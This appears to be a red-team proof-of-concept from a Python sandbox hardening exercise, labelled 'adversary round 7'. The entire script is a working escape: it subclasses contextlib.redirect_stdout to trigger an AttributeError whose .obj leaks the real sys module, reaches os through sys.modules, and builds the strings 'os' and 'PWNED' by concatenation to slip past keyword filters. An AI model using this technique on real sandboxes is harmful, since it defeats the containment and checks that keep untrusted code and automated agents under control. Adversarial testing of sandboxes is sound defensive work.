# adversary round 7: AttributeError.obj leak: subclass contextlib.redirect_stdout with our own _stream (a class-body binding is never judged as a read); its __enter__ does getattr(sys, self._stream) -> AttributeError whose .obj is the real sys module
import contextlib

class R(contextlib.redirect_stdout):
    _stream = 'no_such_stream_' + 'x'

try:
    with R(None):
        pass
except AttributeError as e:
    s = e.obj
    print(type(s).__name__, s.__name__, 'pid', s.modules['o' + 's'].getpid())
    print('PWN' + 'ED')
